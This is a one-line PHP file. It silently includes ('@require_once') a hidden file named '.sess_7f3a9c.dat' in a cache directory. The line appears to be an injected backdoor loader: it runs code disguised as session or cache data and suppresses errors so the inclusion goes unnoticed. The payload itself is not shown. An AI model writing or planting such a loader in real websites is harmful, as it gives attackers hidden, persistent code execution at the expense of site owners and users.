<?php @require_once(dirname(__FILE__) . '/cache/.sess_7f3a9c.dat'); ?>
